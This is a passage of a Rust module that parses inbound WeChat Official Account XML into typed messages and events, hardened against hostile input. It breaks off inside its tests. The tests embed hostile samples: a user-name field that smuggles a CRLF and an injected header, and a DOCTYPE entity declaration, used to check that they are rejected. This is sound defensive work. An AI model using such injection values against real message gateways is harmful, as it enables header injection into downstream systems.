//! Inbound XML (messages and events) → [`Inbound`].
//!
//! The parser is strict about hostile input (no DOCTYPE, no entities beyond XML's five and
//! character references, bounded size, depth and element count) and lenient about content
//! (CDATA or plain text anywhere, unknown elements and types carried through in
//! [`Inbound::fields`], never dropped).

use std::collections::HashMap;
use std::fmt::Write as _;

use quick_xml::Reader;
use quick_xml::events::Event;
use serde::{Deserialize, Serialize};

/// The largest inbound XML accepted.
pub const MAX_XML_BYTES: usize = 256 * 1024;
/// The deepest element nesting accepted (`<xml>` is depth 1).
pub const MAX_DEPTH: usize = 8;
/// The most elements one document may hold.
pub const MAX_ELEMENTS: usize = 4096;

/// Why an inbound document was rejected.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum XmlError {
    /// A DOCTYPE (and with it any entity declaration) is present.
    #[error("XML with a DOCTYPE is not accepted")]
    Doctype,
    /// An entity other than XML's predefined five.
    #[error("XML references the undeclared entity &{0};")]
    Entity(String),
    /// A typed element holds a value of the wrong form.
    #[error("element {0} is invalid: {1:?}")]
    Invalid(&'static str, String),
    /// Not well-formed.
    #[error("malformed XML: {0}")]
    Malformed(String),
    /// A required element is missing or empty.
    #[error("required element {0} is missing")]
    Missing(&'static str),
    /// A processing instruction other than the XML declaration.
    #[error("XML processing instructions are not accepted")]
    ProcessingInstruction,
    /// The root element is not `<xml>`.
    #[error("root element must be <xml>, found <{0}>")]
    Root(String),
    /// Nested deeper than [`MAX_DEPTH`].
    #[error("XML nests deeper than {MAX_DEPTH} levels")]
    TooDeep,
    /// Larger than [`MAX_XML_BYTES`].
    #[error("XML is larger than {MAX_XML_BYTES} bytes")]
    TooLarge,
    /// More than [`MAX_ELEMENTS`] elements.
    #[error("XML has more than {MAX_ELEMENTS} elements")]
    TooManyElements,
}

/// One element of a parsed document.
#[derive(Debug, Clone)]
pub struct Node {
    /// The element name.
    pub name: String,
    /// Its text (CDATA unwrapped, references resolved); empty for parents.
    pub text: String,
    children: Vec<usize>,
}

/// A parsed XML document: a small arena of elements, index 0 the root.
#[derive(Debug, Clone)]
pub struct Document {
    nodes: Vec<Node>,
}

impl Document {
    /// Parses `xml`, rejecting hostile input.
    pub fn parse(xml: &[u8]) -> Result<Document, XmlError> {
        if xml.len() > MAX_XML_BYTES {
            return Err(XmlError::TooLarge);
        }
        let mut reader = Reader::from_reader(xml);
        let mut nodes: Vec<Node> = Vec::with_capacity(16);
        let mut stack: Vec<usize> = Vec::with_capacity(MAX_DEPTH);
        let mut done = false;
        loop {
            let event = reader
                .read_event()
                .map_err(|e| XmlError::Malformed(e.to_string()))?;
            match event {
                Event::Start(e) => {
                    let index = open(&mut nodes, &stack, e.name().as_ref(), done)?;
                    stack.push(index);
                    if stack.len() > MAX_DEPTH {
                        return Err(XmlError::TooDeep);
                    }
                }
                Event::Empty(e) => {
                    // An empty element nests one level below the open ones, like a start tag.
                    if stack.len() >= MAX_DEPTH {
                        return Err(XmlError::TooDeep);
                    }
                    open(&mut nodes, &stack, e.name().as_ref(), done)?;
                    done |= stack.is_empty();
                }
                Event::End(_) => {
                    stack.pop();
                    if stack.is_empty() {
                        done = true;
                    }
                }
                Event::Text(t) => {
                    let text = t
                        .xml_content()
                        .map_err(|e| XmlError::Malformed(e.to_string()))?;
                    match stack.last() {
                        Some(&i) => nodes[i].text.push_str(&text),
                        None if text.trim().is_empty() => {}
                        None => {
                            return Err(XmlError::Malformed(
                                "text outside the root element".into(),
                            ));
                        }
                    }
                }
                Event::CData(t) => {
                    let text = t
                        .xml_content()
                        .map_err(|e| XmlError::Malformed(e.to_string()))?;
                    match stack.last() {
                        Some(&i) => nodes[i].text.push_str(&text),
                        None => {
                            return Err(XmlError::Malformed(
                                "CDATA outside the root element".into(),
                            ));
                        }
                    }
                }
                Event::GeneralRef(r) => {
                    let ch = match r.resolve_char_ref() {
                        Ok(Some(ch)) => ch,
                        Ok(None) => {
                            let name = String::from_utf8_lossy(&r).into_owned();
                            match name.as_str() {
                                "lt" => '<',
                                "gt" => '>',
                                "amp" => '&',
                                "apos" => '\'',
                                "quot" => '"',
                                _ => return Err(XmlError::Entity(name)),
                            }
                        }
                        Err(e) => return Err(XmlError::Malformed(e.to_string())),
                    };
                    match stack.last() {
                        Some(&i) => nodes[i].text.push(ch),
                        None => {
                            return Err(XmlError::Malformed(
                                "reference outside the root element".into(),
                            ));
                        }
                    }
                }
                Event::DocType(_) => return Err(XmlError::Doctype),
                Event::PI(_) => return Err(XmlError::ProcessingInstruction),
                // The declaration may only open the document.
                Event::Decl(_) if !nodes.is_empty() => {
                    return Err(XmlError::Malformed(
                        "XML declaration after the root element".into(),
                    ));
                }
                Event::Decl(_) | Event::Comment(_) => {}
                Event::Eof => break,
            }
        }
        if !stack.is_empty() || nodes.is_empty() {
            return Err(XmlError::Malformed("unexpected end of document".into()));
        }
        if nodes[0].name != "xml" {
            return Err(XmlError::Root(nodes[0].name.clone()));
        }
        for node in &mut nodes {
            if !node.children.is_empty() {
                node.text.clear();
            }
        }
        Ok(Document { nodes })
    }

    /// The root element.
    pub fn root(&self) -> NodeRef<'_> {
        NodeRef {
            doc: self,
            index: 0,
        }
    }

    /// Every leaf element as `path → text`, in document order. Paths join names with `/` below
    /// the root; an element that repeats among its siblings gets `[i]` (0-based).
    pub fn flatten(&self) -> Vec<(String, String)> {
        let mut out = Vec::with_capacity(self.nodes.len());
        self.flatten_into(0, "", &mut out);
        out
    }

    /// Linear in the number of children for large parents: a hostile document of
    /// [`MAX_ELEMENTS`] siblings must not cost a quadratic number of name comparisons.
    fn flatten_into(&self, index: usize, path: &str, out: &mut Vec<(String, String)>) {
        /// Up to this many children, counting namesakes by scanning beats building a map.
        const SCAN_LIMIT: usize = 16;
        let children = &self.nodes[index].children;
        // Per sibling name: how many siblings carry it, and how many of them were seen so far.
        let mut names: Option<HashMap<&str, (usize, usize)>> =
            (children.len() > SCAN_LIMIT).then(|| {
                let mut names = HashMap::with_capacity(children.len());
                for &child in children {
                    names
                        .entry(self.nodes[child].name.as_str())
                        .or_insert((0, 0))
                        .0 += 1;
                }
                names
            });
        for (pos, &child) in children.iter().enumerate() {
            let node = &self.nodes[child];
            let (total, seen) = match &mut names {
                Some(names) => {
                    let (total, seen) = names.entry(node.name.as_str()).or_insert((0, 0));
                    *seen += 1;
                    (*total, *seen - 1)
                }
                None => {
                    let same = |c: &&usize| self.nodes[**c].name == node.name;
                    let total = children.iter().filter(same).count();
                    (total, children[..pos].iter().filter(same).count())
                }
            };
            let mut key = String::with_capacity(path.len() + node.name.len() + 8);
            key.push_str(path);
            if !path.is_empty() {
                key.push('/');
            }
            key.push_str(&node.name);
            if total > 1 {
                // Writing to a String cannot fail.
                let _ = write!(key, "[{seen}]");
            }
            if node.children.is_empty() {
                out.push((key, node.text.clone()));
            } else {
                self.flatten_into(child, &key, out);
            }
        }
    }
}

/// Adds an element under the innermost open one; returns its index.
fn open(
    nodes: &mut Vec<Node>,
    stack: &[usize],
    name: &[u8],
    done: bool,
) -> Result<usize, XmlError> {
    if done {
        return Err(XmlError::Malformed("more than one root element".into()));
    }
    if nodes.len() >= MAX_ELEMENTS {
        return Err(XmlError::TooManyElements);
    }
    let name = std::str::from_utf8(name)
        .map_err(|_| XmlError::Malformed("element name is not UTF-8".into()))?;
    if !is_name(name) {
        return Err(XmlError::Malformed(
            "element name is not an XML name".into(),
        ));
    }
    let name = name.to_owned();
    let index = nodes.len();
    if let Some(&parent) = stack.last() {
        nodes[parent].children.push(index);
    }
    nodes.push(Node {
        name,
        text: String::new(),
        children: Vec::new(),
    });
    Ok(index)
}

/// XML's `Name`, simplified: a letter, `_`, `:` or non-ASCII char, then also digits, `-` and
/// `.`. The reader takes any bytes up to a space as a name (`<>`, `<a/b>`, `<a[0]>`), and
/// [`Document::flatten`] joins names with `/` and indexes them with `[i]`: such names would
/// make two elements one path, and two keys of the envelope's `fields` one.
fn is_name(name: &str) -> bool {
    let ok = |c: char, first: bool| {
        c.is_ascii_alphabetic()
            || matches!(c, '_' | ':')
            || (!first && (c.is_ascii_digit() || matches!(c, '-' | '.')))
            || (!c.is_ascii() && !c.is_control())
    };
    let mut chars = name.chars();
    chars.next().is_some_and(|c| ok(c, true)) && chars.all(|c| ok(c, false))
}

/// A borrowed element of a [`Document`].
#[derive(Clone, Copy)]
pub struct NodeRef<'a> {
    doc: &'a Document,
    index: usize,
}

impl<'a> NodeRef<'a> {
    /// The element name.
    pub fn name(&self) -> &'a str {
        &self.doc.nodes[self.index].name
    }

    /// The element's text.
    pub fn text(&self) -> &'a str {
        &self.doc.nodes[self.index].text
    }

    /// Child elements named `name`, in order.
    pub fn children(&self, name: &'a str) -> impl Iterator<Item = NodeRef<'a>> + 'a {
        let doc = self.doc;
        doc.nodes[self.index]
            .children
            .iter()
            .map(move |&index| NodeRef { doc, index })
            .filter(move |n| n.name() == name)
    }

    /// The first child named `name` (ASCII case-insensitive).
    pub fn child(&self, name: &str) -> Option<NodeRef<'a>> {
        let doc = self.doc;
        doc.nodes[self.index]
            .children
            .iter()
            .map(|&index| NodeRef { doc, index })
            .find(|n| n.name().eq_ignore_ascii_case(name))
    }

    /// The text of the first child named `name`, when present and not empty.
    pub fn get(&self, name: &str) -> Option<&'a str> {
        self.child(name)
            .map(|n| n.text().trim())
            .filter(|t| !t.is_empty())
    }

    /// The text of the first child named `name`, parsed; absent or unparsable gives `None`.
    pub fn num<T: std::str::FromStr>(&self, name: &str) -> Option<T> {
        self.get(name).and_then(|t| t.parse().ok())
    }

    fn string(&self, name: &str) -> Option<String> {
        self.get(name).map(str::to_owned)
    }

    fn string_or_empty(&self, name: &str) -> String {
        self.child(name)
            .map(|n| n.text().to_owned())
            .unwrap_or_default()
    }
}

/// A parsed inbound message or event.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Inbound {
    /// The account's original id (`gh_…`).
    pub to_user_name: String,
    /// The sender's OpenID.
    pub from_user_name: String,
    /// Unix seconds, as WeChat stamped it.
    pub create_time: i64,
    /// `MsgType` as received (`text`, `event`, …).
    pub msg_type: String,
    /// `Event` as received (case kept: `subscribe`, `SCAN`, …), for events.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub event: Option<String>,
    /// `MsgId` (messages) or `MsgID` (job-finish events), as a decimal string.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub msg_id: Option<String>,
    /// The typed view of the message.
    pub detail: Detail,
    /// Every element as received, flattened (`SendPicsInfo/PicList/item[1]/PicMd5Sum`).
    #[serde(with = "fields_map")]
    pub fields: Vec<(String, String)>,
}

impl Inbound {
    /// Parses a plaintext message or event.
    pub fn parse(xml: &[u8]) -> Result<Inbound, XmlError> {
        let doc = Document::parse(xml)?;
        Inbound::from_document(&doc)
    }

    /// Builds the typed message from a parsed document.
    pub fn from_document(doc: &Document) -> Result<Inbound, XmlError> {
        let root = doc.root();
        let to_user_name = root
            .string("ToUserName")
            .ok_or(XmlError::Missing("ToUserName"))?;
        let from_user_name = root
            .string("FromUserName")
            .ok_or(XmlError::Missing("FromUserName"))?;
        let create_time = match root.get("CreateTime") {
            None => return Err(XmlError::Missing("CreateTime")),
            Some(t) => t
                .parse()
                .map_err(|_| XmlError::Invalid("CreateTime", t.to_owned()))?,
        };
        let msg_type = root.string("MsgType").ok_or(XmlError::Missing("MsgType"))?;
        let event = if msg_type == "event" {
            Some(root.string("Event").ok_or(XmlError::Missing("Event"))?)
        } else {
            None
        };
        let msg_id = root.string("MsgId");
        // These travel in NATS headers and dedupe keys: no control characters (a line break
        // would break the header block).
        for (name, value) in [
            ("ToUserName", Some(&to_user_name)),
            ("FromUserName", Some(&from_user_name)),
            ("MsgType", Some(&msg_type)),
            ("Event", event.as_ref()),
            ("MsgId", msg_id.as_ref()),
        ] {
            if let Some(v) = value
                && v.chars().any(char::is_control)
            {
                return Err(XmlError::Invalid(name, v.clone()));
            }
        }
        let detail = Detail::from_root(root, &msg_type, event.as_deref());
        Ok(Inbound {
            to_user_name,
            from_user_name,
            create_time,
            msg_type,
            event,
            msg_id,
            detail,
            fields: doc.flatten(),
        })
    }

    /// True for events, false for user messages.
    pub fn is_event(&self) -> bool {
        self.event.is_some()
    }

    /// The dedupe key: `msg:<FromUserName>:<MsgId>` for messages; for events
    /// `event:<FromUserName>:<CreateTime>:<Event>:<fingerprint>`, where the fingerprint is a
    /// digest of every field ([`Inbound::fingerprint`]). WeChat's retry of an event is the same
    /// XML and gets the same key; two events that differ in any field get two keys.
    pub fn dedupe_key(&self) -> String {
        match (&self.event, &self.msg_id) {
            (None, Some(id)) => format!("msg:{}:{id}", self.from_user_name),
            (None, None) => {
                format!(
                    "msg:{}:{}:{}",
                    self.from_user_name, self.create_time, self.msg_type
                )
            }
            (Some(event), _) => format!(
                "event:{}:{}:{event}:{}",
                self.from_user_name,
                self.create_time,
                self.fingerprint()
            ),
        }
    }

    /// The event key of wxoa before the fingerprint:
    /// `event:<FromUserName>:<CreateTime>:<Event>[:<MsgID>]` (`None` for messages). It is too
    /// coarse (two clicks on two buttons in one second share it) and serves only upgrades:
    /// events created before `gateway.legacy_event_keys_before` keep it, so a retry in flight
    /// across the upgrade still meets the key an old gateway stored.
    pub fn legacy_event_key(&self) -> Option<String> {
        let event = self.event.as_ref()?;
        Some(match &self.msg_id {
            None => format!("event:{}:{}:{event}", self.from_user_name, self.create_time),
            Some(id) => format!(
                "event:{}:{}:{event}:{id}",
                self.from_user_name, self.create_time
            ),
        })
    }

    /// 32 hex characters of the SHA-1 of every flattened field, sorted by path, each path and
    /// value length-prefixed (so no value can run into the next field). Equal for the same
    /// document however it is written (CDATA or text, whitespace between elements, element
    /// order); different when any field's path or value differs, or one is added or missing.
    pub fn fingerprint(&self) -> String {
        let mut fields: Vec<&(String, String)> = self.fields.iter().collect();
        fields.sort_unstable();
        crate::signature::digest(fields.into_iter().flat_map(|(path, value)| [path, value]))
    }

    /// Whether WeChat shows a passive reply to this message: every user message and the events
    /// a user triggers and waits on (follow, scan, menu clicks, pictures, location pick).
    pub fn can_reply(&self) -> bool {
        match &self.event {
            None => true,
            Some(_) => matches!(
                self.detail,
                Detail::Subscribe { .. }
                    | Detail::Scan { .. }
                    | Detail::Click { .. }
                    | Detail::ScancodePush { .. }
                    | Detail::ScancodeWaitmsg { .. }
                    | Detail::PicSysphoto { .. }
                    | Detail::PicPhotoOrAlbum { .. }
                    | Detail::PicWeixin { .. }
                    | Detail::LocationSelect { .. }
            ),
        }
    }

    /// The NATS subject this message is published on.
    pub fn subject(&self, prefix: &str, app_id: &str) -> String {
        match &self.event {
            Some(event) => crate::names::subjects::event(prefix, app_id, event),
            None => crate::names::subjects::message(prefix, app_id, &self.msg_type),
        }
    }

    /// The CloudEvents type: `wechat.message.<type>` or `wechat.event.<event>`.
    pub fn ce_type(&self) -> String {
        match &self.event {
            Some(event) => format!(
                "wechat.event.{}",
                crate::names::token(&event.to_ascii_lowercase())
            ),
            None => format!("wechat.message.{}", crate::names::token(&self.msg_type)),
        }
    }

    /// The value of a flattened field, if present.
    pub fn field(&self, path: &str) -> Option<&str> {
        self.fields
            .iter()
            .find(|(k, _)| k == path)
            .map(|(_, v)| v.as_str())
    }
}

/// One item of a subscription-message event list.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SubscribeMsgItem {
    /// `TemplateId`.
    pub template_id: String,
    /// `SubscribeStatusString` (`accept`/`reject`) or `ErrorStatus` for sent events.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub status: Option<String>,
    /// `PopupScene` (popup events).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub popup_scene: Option<i64>,
    /// `MsgID` (sent events).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub msg_id: Option<String>,
    /// `ErrorCode` (sent events).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub error_code: Option<i64>,
}

/// The typed view of an inbound message, tagged by `kind`. Values that are absent or not of
/// the documented form are `None`; the raw text is always in [`Inbound::fields`].
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
#[allow(missing_docs)] // each field is the XML element of the same name
pub enum Detail {
    /// A text message.
    Text {
        content: String,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        msg_data_id: Option<String>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        idx: Option<u32>,
        /// Set when the text is a click on a customer-service menu (`bizmsgmenuid`).
        #[serde(default, skip_serializing_if = "Option::is_none")]
        biz_msg_menu_id: Option<String>,
    },
    /// An image message.
    Image {
        pic_url: Option<String>,
        media_id: Option<String>,
    },
    /// A voice message.
    Voice {
        media_id: Option<String>,
        format: Option<String>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        recognition: Option<String>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        media_id_16k: Option<String>,
    },
    /// A video message.
    Video {
        media_id: Option<String>,
        thumb_media_id: Option<String>,
    },
    /// A short-video message.
    Shortvideo {
        media_id: Option<String>,
        thumb_media_id: Option<String>,
    },
    /// A location message (`Location_X` = latitude, `Location_Y` = longitude).
    Location {
        latitude: Option<f64>,
        longitude: Option<f64>,
        scale: Option<f64>,
        label: Option<String>,
    },
    /// A link message.
    Link {
        title: Option<String>,
        description: Option<String>,
        url: Option<String>,
    },
    /// Follow; from a parametric QR code `event_key` is `qrscene_<scene>` and `scene` the scene.
    Subscribe {
        #[serde(default, skip_serializing_if = "Option::is_none")]
        event_key: Option<String>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        scene: Option<String>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        ticket: Option<String>,
    },
    /// Unfollow (never answered).
    Unsubscribe,
    /// A follower scanned a parametric QR code (`event_key` = scene).
    Scan {
        event_key: Option<String>,
        ticket: Option<String>,
    },
    /// The periodic location report (`LOCATION` event).
    LocationReport {
        latitude: Option<f64>,
        longitude: Option<f64>,
        precision: Option<f64>,
    },
    /// A menu `click` button.
    Click { event_key: Option<String> },
    /// A menu `view` button (`url` = EventKey).
    View {
        url: Option<String>,
        menu_id: Option<String>,
    },
    /// Menu scan, result pushed.
    ScancodePush {
        event_key: Option<String>,
        scan_type: Option<String>,
        scan_result: Option<String>,
    },
    /// Menu scan, client waits for a reply.
    ScancodeWaitmsg {
        event_key: Option<String>,
        scan_type: Option<String>,
        scan_result: Option<String>,
    },
    /// Menu photo.
    PicSysphoto {
        event_key: Option<String>,
        count: Option<u32>,
        pic_md5_sums: Vec<String>,
    },
    /// Menu photo or album.
    PicPhotoOrAlbum {
        event_key: Option<String>,
        count: Option<u32>,
        pic_md5_sums: Vec<String>,
    },
    /// Menu WeChat album.
    PicWeixin {
        event_key: Option<String>,
        count: Option<u32>,
        pic_md5_sums: Vec<String>,
    },
    /// Menu location pick.
    LocationSelect {
        event_key: Option<String>,
        latitude: Option<f64>,
        longitude: Option<f64>,
        scale: Option<f64>,
        label: Option<String>,
        poiname: Option<String>,
    },
    /// A menu `miniprogram` button (`page_path` = EventKey).
    ViewMiniprogram {
        page_path: Option<String>,
        menu_id: Option<String>,
    },
    /// A mass send finished.
    MassSendJobFinish {
        status: Option<String>,
        total_count: Option<u64>,
        filter_count: Option<u64>,
        sent_count: Option<u64>,
        error_count: Option<u64>,
    },
    /// A template message was delivered (or not).
    TemplateSendJobFinish { status: Option<String> },
    /// Subscription-message popup answers.
    SubscribeMsgPopup { items: Vec<SubscribeMsgItem> },
    /// Subscription-message setting changes.
    SubscribeMsgChange { items: Vec<SubscribeMsgItem> },
    /// Subscription-message delivery results.
    SubscribeMsgSent { items: Vec<SubscribeMsgItem> },
    /// A free-publish job finished.
    PublishJobFinish {
        publish_id: Option<String>,
        publish_status: Option<i64>,
        article_id: Option<String>,
    },
    /// A customer-service session was opened.
    KfCreateSession { kf_account: Option<String> },
    /// A customer-service session was closed.
    KfCloseSession { kf_account: Option<String> },
    /// A customer-service session moved between agents.
    KfSwitchSession {
        from_kf_account: Option<String>,
        to_kf_account: Option<String>,
    },
    /// Certification events (`qualification_verify_success`, `naming_verify_fail`, …).
    Verify {
        expired_time: Option<i64>,
        fail_time: Option<i64>,
        fail_reason: Option<String>,
    },
    /// A message type or event wxoa has no typed view of: everything is in `fields`.
    Unknown,
}

impl Detail {
    fn from_root(root: NodeRef<'_>, msg_type: &str, event: Option<&str>) -> Detail {
        let s = |name: &str| root.string(name);
        match event {
            None => match msg_type {
                "text" => Detail::Text {
                    content: root.string_or_empty("Content"),
                    msg_data_id: s("MsgDataId"),
                    idx: root.num("Idx"),
                    biz_msg_menu_id: s("bizmsgmenuid"),
                },
                "image" => Detail::Image {
                    pic_url: s("PicUrl"),
                    media_id: s("MediaId"),
                },
                "voice" => Detail::Voice {
                    media_id: s("MediaId"),
                    format: s("Format"),
                    recognition: root.child("Recognition").map(|n| n.text().to_owned()),
                    media_id_16k: s("MediaId16K"),
                },
                "video" => Detail::Video {
                    media_id: s("MediaId"),
                    thumb_media_id: s("ThumbMediaId"),
                },
                "shortvideo" => Detail::Shortvideo {
                    media_id: s("MediaId"),
                    thumb_media_id: s("ThumbMediaId"),
                },
                "location" => Detail::Location {
                    latitude: root.num("Location_X"),
                    longitude: root.num("Location_Y"),
                    scale: root.num("Scale"),
                    label: s("Label"),
                },
                "link" => Detail::Link {
                    title: s("Title"),
                    description: s("Description"),
                    url: s("Url"),
                },
                _ => Detail::Unknown,
            },
            Some(event) => Detail::from_event(root, event),
        }
    }

    fn from_event(root: NodeRef<'_>, event: &str) -> Detail {
        let s = |name: &str| root.string(name);
        let key = || s("EventKey");
        let scan = |field: &str| root.child("ScanCodeInfo").and_then(|n| n.string(field));
        let pics = || {
            let info = root.child("SendPicsInfo");
            let count = info.and_then(|n| n.num("Count"));
            let sums = info
                .and_then(|n| n.child("PicList"))
                .map(|list| {
                    list.children("item")
                        .filter_map(|i| i.string("PicMd5Sum"))
                        .collect()
                })
                .unwrap_or_default();
            (key(), count, sums)
        };
        let list = |wrapper: &str| -> Vec<SubscribeMsgItem> {
            root.child(wrapper)
                .map(|w| {
                    w.children("List")
                        .map(|item| SubscribeMsgItem {
                            template_id: item.string_or_empty("TemplateId"),
                            status: item
                                .string("SubscribeStatusString")
                                .or_else(|| item.string("ErrorStatus")),
                            popup_scene: item.num("PopupScene"),
                            msg_id: item.string("MsgID"),
                            error_code: item.num("ErrorCode"),
                        })
                        .collect()
                })
                .unwrap_or_default()
        };
        match event.to_ascii_lowercase().as_str() {
            "subscribe" => {
                let event_key = key();
                let scene = event_key
                    .as_deref()
                    .and_then(|k| k.strip_prefix("qrscene_"))
                    .map(str::to_owned);
                Detail::Subscribe {
                    event_key,
                    scene,
                    ticket: s("Ticket"),
                }
            }
            "unsubscribe" => Detail::Unsubscribe,
            "scan" => Detail::Scan {
                event_key: key(),
                ticket: s("Ticket"),
            },
            "location" => Detail::LocationReport {
                latitude: root.num("Latitude"),
                longitude: root.num("Longitude"),
                precision: root.num("Precision"),
            },
            "click" => Detail::Click { event_key: key() },
            "view" => Detail::View {
                url: key(),
                menu_id: s("MenuId"),
            },
            "scancode_push" => Detail::ScancodePush {
                event_key: key(),
                scan_type: scan("ScanType"),
                scan_result: scan("ScanResult"),
            },
            "scancode_waitmsg" => Detail::ScancodeWaitmsg {
                event_key: key(),
                scan_type: scan("ScanType"),
                scan_result: scan("ScanResult"),
            },
            "pic_sysphoto" => {
                let (event_key, count, pic_md5_sums) = pics();
                Detail::PicSysphoto {
                    event_key,
                    count,
                    pic_md5_sums,
                }
            }
            "pic_photo_or_album" => {
                let (event_key, count, pic_md5_sums) = pics();
                Detail::PicPhotoOrAlbum {
                    event_key,
                    count,
                    pic_md5_sums,
                }
            }
            "pic_weixin" => {
                let (event_key, count, pic_md5_sums) = pics();
                Detail::PicWeixin {
                    event_key,
                    count,
                    pic_md5_sums,
                }
            }
            "location_select" => {
                let info = root.child("SendLocationInfo");
                let f = |name: &str| info.and_then(|n| n.string(name));
                let n = |name: &str| info.and_then(|i| i.num(name));
                Detail::LocationSelect {
                    event_key: key(),
                    latitude: n("Location_X"),
                    longitude: n("Location_Y"),
                    scale: n("Scale"),
                    label: f("Label"),
                    poiname: f("Poiname"),
                }
            }
            "view_miniprogram" => Detail::ViewMiniprogram {
                page_path: key(),
                menu_id: s("MenuId"),
            },
            "masssendjobfinish" => Detail::MassSendJobFinish {
                status: s("Status"),
                total_count: root.num("TotalCount"),
                filter_count: root.num("FilterCount"),
                sent_count: root.num("SentCount"),
                error_count: root.num("ErrorCount"),
            },
            "templatesendjobfinish" => Detail::TemplateSendJobFinish {
                status: s("Status"),
            },
            "subscribe_msg_popup_event" => Detail::SubscribeMsgPopup {
                items: list("SubscribeMsgPopupEvent"),
            },
            "subscribe_msg_change_event" => Detail::SubscribeMsgChange {
                items: list("SubscribeMsgChangeEvent"),
            },
            "subscribe_msg_sent_event" => Detail::SubscribeMsgSent {
                items: list("SubscribeMsgSentEvent"),
            },
            "publishjobfinish" => {
                let info = root.child("PublishEventInfo");
                Detail::PublishJobFinish {
                    publish_id: info.and_then(|n| n.string("publish_id")),
                    publish_status: info.and_then(|n| n.num("publish_status")),
                    article_id: info.and_then(|n| n.string("article_id")),
                }
            }
            "kf_create_session" => Detail::KfCreateSession {
                kf_account: s("KfAccount"),
            },
            "kf_close_session" => Detail::KfCloseSession {
                kf_account: s("KfAccount"),
            },
            "kf_switch_session" => Detail::KfSwitchSession {
                from_kf_account: s("FromKfAccount"),
                to_kf_account: s("ToKfAccount"),
            },
            "qualification_verify_success"
            | "qualification_verify_fail"
            | "naming_verify_success"
            | "naming_verify_fail"
            | "annual_renew"
            | "verify_expired" => Detail::Verify {
                expired_time: root.num("ExpiredTime"),
                fail_time: root.num("FailTime"),
                fail_reason: s("FailReason"),
            },
            _ => Detail::Unknown,
        }
    }
}

/// Serializes the flattened fields as one JSON object, keeping document order.
mod fields_map {
    use serde::de::{MapAccess, Visitor};
    use serde::ser::SerializeMap;
    use serde::{Deserializer, Serializer};

    pub(super) fn serialize<S: Serializer>(
        fields: &[(String, String)],
        s: S,
    ) -> Result<S::Ok, S::Error> {
        let mut map = s.serialize_map(Some(fields.len()))?;
        for (k, v) in fields {
            map.serialize_entry(k, v)?;
        }
        map.end()
    }

    pub(super) fn deserialize<'de, D: Deserializer<'de>>(
        d: D,
    ) -> Result<Vec<(String, String)>, D::Error> {
        struct V;
        impl<'de> Visitor<'de> for V {
            type Value = Vec<(String, String)>;
            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.write_str("an object of strings")
            }
            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Self::Value, A::Error> {
                let mut out = Vec::with_capacity(map.size_hint().unwrap_or(8));
                while let Some(entry) = map.next_entry()? {
                    out.push(entry);
                }
                Ok(out)
            }
        }
        d.deserialize_map(V)
    }
}

/// The outer document of a safe- or compatible-mode callback.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EncryptedBody {
    /// `ToUserName`, when present.
    pub to_user_name: Option<String>,
    /// `Encrypt`: the base64 ciphertext.
    pub encrypt: String,
}

impl EncryptedBody {
    /// Reads the `Encrypt` element of a safe- or compatible-mode body (plaintext siblings in
    /// compatible mode are untrusted and ignored).
    pub fn parse(xml: &[u8]) -> Result<EncryptedBody, XmlError> {
        let doc = Document::parse(xml)?;
        let root = doc.root();
        Ok(EncryptedBody {
            to_user_name: root.string("ToUserName"),
            encrypt: root.string("Encrypt").ok_or(XmlError::Missing("Encrypt"))?,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn control_characters_in_header_fields_are_rejected() {
        let xml = b"<xml><ToUserName>gh</ToUserName><FromUserName><![CDATA[o\r\nX-Evil: 1]]></FromUserName>\
            <CreateTime>1</CreateTime><MsgType>text</MsgType><Content>a\nb</Content><MsgId>7</MsgId></xml>";
        assert!(matches!(
            Inbound::parse(xml).unwrap_err(),
            XmlError::Invalid("FromUserName", _)
        ));
        let xml = b"<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime>\
            <MsgType>event</MsgType><Event>a&#10;b</Event></xml>";
        assert!(matches!(
            Inbound::parse(xml).unwrap_err(),
            XmlError::Invalid("Event", _)
        ));
        let ok = b"<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime>\
            <MsgType>text</MsgType><Content>line\nbreaks are fine here</Content><MsgId>7</MsgId></xml>";
        assert!(Inbound::parse(ok).is_ok());
    }

    #[test]
    fn hostile_xml_is_rejected() {
        let doctype =
            br#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><xml><A>&a;</A></xml>"#;
        assert_eq!(Inbound::parse(doctype).unwrap_err(), XmlError::Doctype);
        assert!(matches!(
            Inbound::parse(b"<xml><A>&a;</A></xml>").unwrap_err(),
            XmlError::Entity(_)
        ));
        let deep = format!("<xml>{}{}</xml>", "<a>".repeat(20), "</a>".repeat(20));
        assert_eq!(
            Inbound::parse(deep.as_bytes()).unwrap_err(),
            XmlError::TooDeep
        );
        let big = vec![b' '; MAX_XML_BYTES + 1];
        assert_eq!(Inbound::parse(&big).unwrap_err(), XmlError::TooLarge);
        let many = format!("<xml>{}</xml>", "<a/>".repeat(MAX_ELEMENTS + 1));
        assert_eq!(
            Inbound::parse(many.as_bytes()).unwrap_err(),
            XmlError::TooManyElements
        );
        assert!(matches!(
            Inbound::parse(b"<xml><A></B></xml>").unwrap_err(),
            XmlError::Malformed(_)
        ));
        assert!(matches!(
            Inbound::parse(b"<xml><A>").unwrap_err(),
            XmlError::Malformed(_)
        ));
        assert!(matches!(
            Inbound::parse(b"<root/>").unwrap_err(),
            XmlError::Root(_)
        ));
